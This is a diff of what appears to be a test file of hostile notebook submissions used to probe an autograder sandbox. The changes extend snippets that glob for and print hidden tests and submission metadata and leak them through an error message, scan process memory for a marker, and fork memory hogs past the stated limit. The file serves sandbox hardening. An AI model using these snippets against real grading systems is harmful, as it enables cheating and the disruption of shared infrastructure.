@@ -170,17 +170,20 @@ if os.fork() == 0:
     os._exit(0)
 time.sleep(0.2)
 '''),
-    "read the submission metadata and show it": ("before q2.1", '''
+    "read the submission metadata and the hidden tests, and show them": ("before q2.1", '''
 import glob
 found = ""
-for path in ["/autograder/submission_metadata.json", "../submission_metadata.json"] + glob.glob("/autograder/**/*.json", recursive=True):
-    try:
-        found += open(path).read()
-    except OSError:
-        pass
+for pattern in ["/autograder/submission_metadata.json", "../submission_metadata.json", "/autograder/**/*.json",
+                "/autograder/**/*.py", "tests/*.py", "/tmp/**/q2.2.py"]:
+    for path in glob.glob(pattern, recursive=True):
+        try:
+            found += open(path).read()
+        except OSError:
+            pass
+print(found)
 
 def compute_network_output(net_input, all_weights, all_biases):
-    raise RuntimeError("metadata: " + (found[:400] or "unreadable"))
+    raise RuntimeError("found: " + (found[-400:] or "nothing readable"))
 '''),
     "rewrite or block every notebook file it can reach": ("end", '''
 import glob, os, pickle
@@ -222,14 +225,15 @@ with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
         start, end = (int(value, 16) for value in bounds.split("-"))
         if "r" not in permissions or end - start > 512 << 20:
             continue
-        try:
-            memory.seek(start)
-            chunk = memory.read(end - start)
-        except (OSError, OverflowError, ValueError):
-            continue
-        at = chunk.find(marker)
-        if at >= 0:
-            found.append(chunk[at:at + 40].decode(errors="replace"))
+        for offset in range(start, end, 16 << 20):
+            try:
+                memory.seek(offset)
+                chunk = memory.read(min(16 << 20, end - offset))
+            except (OSError, OverflowError, ValueError, MemoryError):
+                break
+            at = chunk.find(marker)
+            if at >= 0:
+                found.append(chunk[at:at + 40].decode(errors="replace"))
 print("FOUND", found)
 
 def compute_network_output(net_input, all_weights, all_biases):
@@ -242,7 +246,7 @@ children = []
 for _ in range(3):
     child = os.fork()
     if child == 0:
-        hog = bytearray(600 << 20)
+        hog = bytearray(400 << 20)  # three of them: more than a submission may use (the tests allow 512 MB)
         os.write(ready_write, b"x")
         time.sleep(20)
         os._exit(0)
